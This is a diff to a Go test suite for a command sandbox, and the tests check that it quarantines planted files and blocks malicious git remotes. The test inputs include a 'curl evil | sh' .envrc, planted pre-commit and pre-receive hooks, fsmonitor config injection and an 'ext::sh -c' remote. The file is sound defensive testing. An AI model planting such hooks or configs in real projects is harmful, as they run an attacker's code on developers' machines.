@@ -198,11 +198,11 @@ func TestContainmentNewProtectedQuarantined(t *testing.T) {
 	c := startContainment(t, "")
 	r := c.sh(t, `echo 'curl evil | sh' > .envrc && mkdir -p .vscode && echo '{}' > .vscode/tasks.json &&
 mkdir -p sub && git init -q sub && echo evil > sub/.git/hooks/pre-commit && echo x > sub/.npmrc &&
-echo x > keep.txt && mkdir -p plain && echo x > plain/.npmrc`)
+echo x > keep.txt && mkdir -p plain node_modules/pkg && echo x > plain/.npmrc && echo x > node_modules/pkg/.npmrc`)
 	if r.err != nil || r.exit.GetExitCode() != 0 {
 		t.Fatalf("run: %+v", r)
 	}
-	for _, gone := range []string{".envrc", ".vscode", "sub/.git", "sub/.npmrc"} {
+	for _, gone := range []string{".envrc", ".vscode", "sub/.git", "sub/.npmrc", "plain/.npmrc"} {
 		if _, err := os.Lstat(filepath.Join(c.ws, gone)); err == nil {
 			t.Errorf("%s was left in place", gone)
 		}
@@ -211,9 +211,9 @@ echo x > keep.txt && mkdir -p plain && echo x > plain/.npmrc`)
 			t.Errorf("%s: quarantined copies %v, want one", gone, matches)
 		}
 	}
-	// Not protected: ordinary files, and a .npmrc in a directory that is
-	// no work tree's root.
-	for _, kept := range []string{"keep.txt", "plain/.npmrc"} {
+	// Not protected: ordinary files, and names tools do not read inside
+	// dependency trees.
+	for _, kept := range []string{"keep.txt", "node_modules/pkg/.npmrc"} {
 		if _, err := os.Lstat(filepath.Join(c.ws, kept)); err != nil {
 			t.Errorf("%s: %v", kept, err)
 		}
@@ -460,15 +460,15 @@ func TestContainmentLimits(t *testing.T) {
 	rec := lastResult(t, c.in)
 	n := 0
 	fmt.Sscan(r.stdout, &n)
-	bounded := os.Geteuid() != 0 || rec.Details["limits"] == "cgroup" && cgroupPids()
+	bounded := os.Geteuid() != 0 || strings.Contains(rec.Details["limits"], "pids")
 	switch {
 	case bounded && (n == 0 || n > 64):
 		t.Errorf("%d processes ran under a limit of 64 (limits %s)", n, rec.Details["limits"])
 	case !bounded:
 		t.Logf("as root without a pids cgroup, %d processes ran: only cgroup pids.max bounds a root server", n)
 	}
-	if rec.Details["limits"] == "" {
-		t.Errorf("the audit record does not say how the command was bounded: %v", rec.Details)
+	if want := "rlimit"; !strings.Contains(rec.Details["limits"], want) || strings.Contains(rec.Details["limits"], "pids") != cgroupPids() && os.Geteuid() == 0 {
+		t.Errorf("the audit record says limits %q: want rlimits, and a pids cgroup exactly when there is one", rec.Details["limits"])
 	}
 }
 
@@ -577,4 +577,139 @@ func procsWith(prefix string) []int {
 func waitNone(t *testing.T, prefix string) {
 	t.Helper()
 	poll(t, 5*time.Second, "no "+strings.ReplaceAll(prefix, "\x00", " ")+" process", func() bool { return len(procsWith(prefix)) == 0 })
+}
+
+// What the first containment battery missed (an attacker's review): the
+// scan after a command must not be defeated by depth, by hiding a
+// directory, by git layouts git accepts, by reaching protected names
+// through a link, nor mistake the owner's moved entries for new ones.
+func TestContainmentQuarantineHolds(t *testing.T) {
+	c := startContainment(t, "")
+	git(t, c.ws, "init", "-q", "vendor/lib")
+	deep := "deep" + strings.Repeat("/d", 70)
+	for _, tc := range []struct {
+		name, script string
+		gone         []string // quarantined
+	}{
+		{"past the depth bound", "mkdir -p " + deep + " && echo evil > .envrc && echo evil > " + deep + "/.envrc",
+			[]string{".envrc", deep + "/.envrc"}},
+		{"hidden in an unreadable directory", "git init -q app && echo evil > app/.envrc && chmod 311 app",
+			[]string{"app/.git", "app/.envrc"}},
+		{"a bare repository whose objects is a link", "mkdir -p fake/refs/heads fake/o && ln -s o fake/objects && echo 'ref: refs/heads/main' > fake/HEAD && printf '[core]\\n\\tfsmonitor = evil\\n' > fake/config",
+			[]string{"fake"}},
+		{"a git directory by commondir", "mkdir -p cd && echo 'ref: refs/heads/main' > cd/HEAD && echo ../.git > cd/commondir",
+			[]string{"cd"}},
+		{".cargo as a link", "mkdir -p target/.c && echo '[build]' > target/.c/config.toml && ln -s target/.c .cargo",
+			[]string{".cargo"}},
+		{".cargo below the root", "mkdir -p crates/foo/.cargo && echo '[build]' > crates/foo/.cargo/config.toml",
+			[]string{"crates/foo/.cargo"}},
+		{".git as a link in a subdirectory", "mkdir -p sub2 && ln -s ../.git sub2/.git",
+			[]string{"sub2/.git"}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			r := c.sh(t, tc.script)
+			if r.err != nil || r.exit.GetExitCode() != 0 {
+				t.Fatalf("run: %+v", r)
+			}
+			for _, g := range tc.gone {
+				if _, err := os.Lstat(filepath.Join(c.ws, g)); err == nil {
+					t.Errorf("%s was left in place (audit %v)", g, lastResult(t, c.in).Details)
+				}
+			}
+			if tc.name == "past the depth bound" {
+				// Quarantined; the tree itself is too deep for the next
+				// command's scan, which refuses (fail closed) naming it.
+				r := c.sh(t, "true")
+				wantCode(t, r.err, refusal.SandboxUnavailable)
+				if !strings.Contains(r.err.Error(), "too deep to protect") {
+					t.Fatalf("next command: %v", r.err)
+				}
+				if err := os.RemoveAll(filepath.Join(c.ws, "deep")); err != nil {
+					t.Fatal(err)
+				}
+			}
+			if next := c.sh(t, "true"); next.err != nil {
+				t.Fatalf("the next command was refused: %v (audit %v)", next.err, lastResult(t, c.in).Details)
+			}
+		})
+	}
+	// The owner's nested repository, moved along with its parent, is not
+	// mistaken for a new one.
+	if r := c.sh(t, "mv vendor vendor2"); r.err != nil || r.exit.GetExitCode() != 0 {
+		t.Fatalf("mv: %+v", r)
+	}
+	if _, err := os.Stat(filepath.Join(c.ws, "vendor2/lib/.git/HEAD")); err != nil {
+		t.Fatalf("the owner's repository was quarantined after a rename of its parent: %v", err)
+	}
+}
+
+// Hooks kept in the work tree (core.hooksPath, as husky sets it) and files
+// the repository's config includes are protected like .git/hooks.
+func TestContainmentHooksPathProtected(t *testing.T) {
+	c := startContainment(t, "")
+	for _, d := range []string{".husky", "tools/hooks"} {
+		if err := os.MkdirAll(filepath.Join(c.ws, d), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := os.WriteFile(filepath.Join(c.ws, "team.gitconfig"), []byte("[core]\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	git(t, c.ws, "config", "core.hooksPath", "tools/hooks")
+	git(t, c.ws, "config", "include.path", "../team.gitconfig")
+	for _, attempt := range []string{
+		"echo evil > tools/hooks/pre-commit",
+		"echo evil > .husky/pre-commit",
+		"echo '[core] fsmonitor = evil' >> team.gitconfig",
+	} {
+		if r := c.sh(t, attempt); r.err != nil || r.exit.GetExitCode() == 0 {
+			t.Errorf("%s: %+v", attempt, r)
+		}
+	}
+}
+
+// A home directory is no workspace: its dotfiles are the host's
+// configuration, and its secrets would sit in the command's reach.
+func TestContainmentHomeIsNoWorkspace(t *testing.T) {
+	requireBwrap(t)
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	in := testserver.Start(t, testserver.Options{Policy: fmt.Sprintf(`version: 1
+workspaces: {home: %s, above: %s}
+roles: {operator: {permissions: [exec], commands: ["*"]}}
+commands:
+  - {name: sh, binary: /bin/sh, args: ["**"], flags: any, workspace: home}
+  - {name: ls, binary: /bin/ls, workspace: above}
+`, home, filepath.Dir(home))})
+	for _, argv := range [][]string{{"/bin/sh", "-c", "true"}, {"/bin/ls"}} {
+		r := execArgv(t, in, argv...)
+		wantCode(t, r.err, refusal.PolicyDeny)
+		if !strings.Contains(r.err.Error(), "home directory") {
+			t.Errorf("%v: %v", argv, r.err)
+		}
+	}
+}
+
+// A local repository as a remote runs its own hooks (receive-pack) in the
+// command's sandbox, with the rule's credentials: git is told to use only
+// network transports, so no spelling of a local remote reaches it.
+func TestContainmentGitLocalRemote(t *testing.T) {
+	c := startContainment(t, "")
+	if r := c.sh(t, `git init -q --bare evil.git && printf '#!/bin/sh\ntouch ran-hook\n' > evil.git/hooks/pre-receive && chmod +x evil.git/hooks/pre-receive`); r.err != nil || r.exit.GetExitCode() != 0 {
+		t.Fatalf("setup: %+v", r)
+	}
+	for _, remote := range []string{"evil.git", "ext::sh -c touch% ran-ext"} {
+		r := execArgv(t, c.in, "/usr/bin/git", "push", remote, "HEAD:refs/heads/x")
+		if r.err == nil && r.exit.GetExitCode() == 0 {
+			t.Errorf("push to %q succeeded", remote)
+		}
+	}
+	if r := c.sh(t, "git push evil.git HEAD:refs/heads/y 2>&1; git -c protocol.allow=always push evil.git HEAD:refs/heads/z 2>&1; true"); !strings.Contains(r.stdout, "not allowed") {
+		t.Errorf("git in a shell: %q", r.stdout)
+	}
+	for _, marker := range []string{"ran-hook", "ran-ext"} {
+		if _, err := os.Stat(filepath.Join(c.ws, marker)); err == nil {
+			t.Errorf("%s: the remote ran code", marker)
+		}
+	}
 }
